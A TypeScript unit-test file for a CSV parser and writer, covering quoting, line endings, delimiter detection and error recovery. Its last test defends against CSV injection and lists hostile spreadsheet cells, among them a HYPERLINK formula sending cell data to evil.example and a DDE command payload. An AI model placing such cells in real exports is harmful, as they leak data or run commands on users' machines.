import { describe, expect, it } from 'vitest';
import { csvField, csvRow, parseCsv } from '../../domain/csv';

const lines = (r: ReturnType<typeof parseCsv>) => r.records.map((x) => [x.line, x.fields]);

describe('parseCsv', () => {
  it('reads a header and records, trimming header names only', () => {
    const r = parseCsv(' sku , name \nA-1,  padded  \nB-2,plain\n');
    expect(r.header).toEqual(['sku', 'name']);
    expect(r.headerLine).toBe(1);
    expect(lines(r)).toEqual([
      [2, ['A-1', '  padded  ']],
      [3, ['B-2', 'plain']],
    ]);
    expect(r.errors).toEqual([]);
    expect(r.delimiter).toBe(',');
  });

  it('drops a UTF-8 BOM and accepts CRLF, LF and lone CR line ends alike', () => {
    const r = parseCsv('\uFEFFsku,name\r\nA,1\nB,2\rC,3\r\n');
    expect(r.header).toEqual(['sku', 'name']);
    expect(lines(r)).toEqual([
      [2, ['A', '1']],
      [3, ['B', '2']],
      [4, ['C', '3']],
    ]);
  });

  it('reads the last record with or without a trailing newline', () => {
    expect(lines(parseCsv('a,b\n1,2'))).toEqual([[2, ['1', '2']]]);
    expect(lines(parseCsv('a,b\n1,2\n'))).toEqual([[2, ['1', '2']]]);
    expect(lines(parseCsv('a,b\n1,\n'))).toEqual([[2, ['1', '']]]);
  });

  it('reads quoted commas, doubled quotes and newlines, numbering records by the line they start on', () => {
    const text = [
      'sku,name,notes',
      'A,"tote, large","say ""hi"""',
      'B,"two',
      'lines",x',
      'C,"three\r\nline\rends\nhere",y',
      'D,"",z',
    ].join('\r\n');
    const r = parseCsv(text);
    expect(r.errors).toEqual([]);
    expect(lines(r)).toEqual([
      [2, ['A', 'tote, large', 'say "hi"']],
      [3, ['B', 'two\nlines', 'x']],
      [5, ['C', 'three\nline\nends\nhere', 'y']],
      [9, ['D', '', 'z']],
    ]);
  });

  it('keeps a quote in the middle of an unquoted field as text', () => {
    expect(lines(parseCsv('name,size\n12" pizza,large\n'))).toEqual([[2, ['12" pizza', 'large']]]);
  });

  it('ignores spaces after a closing quote', () => {
    expect(lines(parseCsv('a,b\n"x"  ,y\n'))).toEqual([[2, ['x', 'y']]]);
  });

  it('skips blank lines and rows of nothing but separators, without counting them as records', () => {
    const r = parseCsv('\n\nsku,name\n\nA,1\n   \n,,\n , \nB,2\n\n');
    expect(r.header).toEqual(['sku', 'name']);
    expect(r.headerLine).toBe(3);
    expect(lines(r)).toEqual([
      [5, ['A', '1']],
      [9, ['B', '2']],
    ]);
  });

  it('keeps a row of empty quoted fields (someone wrote them)', () => {
    expect(lines(parseCsv('a,b\n"",""\n'))).toEqual([[2, ['', '']]]);
  });

  it('returns rows with more or fewer fields than the header as they are', () => {
    const r = parseCsv('a,b,c\n1,2,3,4\n1\n1,2\n');
    expect(r.errors).toEqual([]);
    expect(lines(r)).toEqual([
      [2, ['1', '2', '3', '4']],
      [3, ['1']],
      [4, ['1', '2']],
    ]);
  });

  it('reports an unterminated quote on its line and recovers at the next line', () => {
    const r = parseCsv('sku,name\nA,ok\nB,"broken\nC,fine\nD,also fine\n');
    expect(r.errors).toEqual([{ line: 3, message: expect.stringMatching(/line 3 .*never closed.*row skipped/) }]);
    expect(lines(r)).toEqual([
      [2, ['A', 'ok']],
      [4, ['C', 'fine']],
      [5, ['D', 'also fine']],
    ]);
  });

  it('reports text after a closing quote and recovers at the line after the quote opened', () => {
    // The stray quote on line 3 pairs with the one on line 4; without the check, rows 3-4 would fuse.
    const r = parseCsv('sku,name\nA,ok\nB,"12 inch\nC,"fine",x\nD,ok\n');
    expect(r.errors).toEqual([{ line: 3, message: expect.stringMatching(/after the closing quote.*opened on line 3/) }]);
    expect(lines(r)).toEqual([
      [2, ['A', 'ok']],
      [4, ['C', 'fine', 'x']],
      [5, ['D', 'ok']],
    ]);
  });

  it('cannot read past a header it cannot read', () => {
    const r = parseCsv('sku,"name\nA,1\n');
    expect(r.header).toEqual([]);
    expect(r.records).toEqual([]);
    expect(r.errors).toEqual([{ line: 1, message: expect.stringMatching(/header row cannot be read/) }]);
  });

  it('detects ; and tab separators from the header line, and honours sep= and an explicit delimiter', () => {
    const semi = parseCsv('sku;name;price\nA;"x; y";1,50\n');
    expect(semi.delimiter).toBe(';');
    expect(lines(semi)).toEqual([[2, ['A', 'x; y', '1,50']]]);

    const tab = parseCsv('sku\tname, long\tprice\nA\tx, y\t1\n');
    expect(tab.delimiter).toBe('\t');
    expect(tab.header).toEqual(['sku', 'name, long', 'price']);
    expect(lines(tab)).toEqual([[2, ['A', 'x, y', '1']]]);

    const excel = parseCsv('sep=;\r\nsku;name\r\nA;b,c\r\n');
    expect(excel.delimiter).toBe(';');
    expect(excel.headerLine).toBe(2);
    expect(lines(excel)).toEqual([[3, ['A', 'b,c']]]);

    const forced = parseCsv('a;b,c\n1;2,3\n', { delimiter: ',' });
    expect(forced.header).toEqual(['a;b', 'c']);

    expect(parseCsv('"a,b";c\n').delimiter).toBe(';');
    expect(parseCsv('sku\nA\n').delimiter).toBe(',');
  });

  it('reads an empty file as no header and no records', () => {
    expect(parseCsv('')).toMatchObject({ header: [], records: [], errors: [] });
    expect(parseCsv('\uFEFF\r\n\r\n')).toMatchObject({ header: [], records: [], errors: [] });
  });

  it('reads 5,000 rows of 10 columns', () => {
    const header = Array.from({ length: 10 }, (_, i) => `col${i}`).join(',');
    const row = (n: number) => Array.from({ length: 10 }, (_, i) => (i === 3 ? `"quoted, ${n}"` : `v${n}-${i}`)).join(',');
    const text = [header, ...Array.from({ length: 5000 }, (_, n) => row(n))].join('\r\n');
    const r = parseCsv(text);
    expect(r.errors).toEqual([]);
    expect(r.records).toHaveLength(5000);
    expect(r.records[4999]).toEqual({ line: 5001, fields: expect.arrayContaining(['quoted, 4999', 'v4999-9']) });
  });
});

describe('csvRow and csvField', () => {
  it('quote what needs quoting and round-trip through parseCsv', () => {
    const row = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 12, undefined, ''];
    const text = `${csvRow(['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'h7', 'h8'])}\n${csvRow(row)}\n`;
    expect(csvRow(row)).toBe('plain,"a,b","say ""hi""","two\nlines","cr\rhere",12,,');
    expect(parseCsv(text).records[0]!.fields).toEqual(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\nhere', '12', '', '']);
  });

  it('neutralise cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '  =1+1', '=cmd|\' /C calc\'!A0'];
    for (const cell of hostile) {
      const written = csvField(cell);
      expect(written.startsWith(`"'`), cell).toBe(true);
      const back = parseCsv(`h\n${written}\n`).records[0]!.fields[0]!;
      expect(back, cell).toBe(`'${cell.replace(/\r/g, '\n')}`);
    }
    // Numbers are numbers, and ordinary text is left alone.
    expect(csvField(-3)).toBe('-3');
    expect(csvField('0.0000')).toBe('0.0000');
    expect(csvField('SKU-1')).toBe('SKU-1');
    expect(csvField('a=b')).toBe('a=b');
    // Writing a neutralised cell again adds no second quote.
    expect(csvField(parseCsv(`h\n${csvField('=1+1')}\n`).records[0]!.fields[0]!)).toBe(`'=1+1`);
  });
});
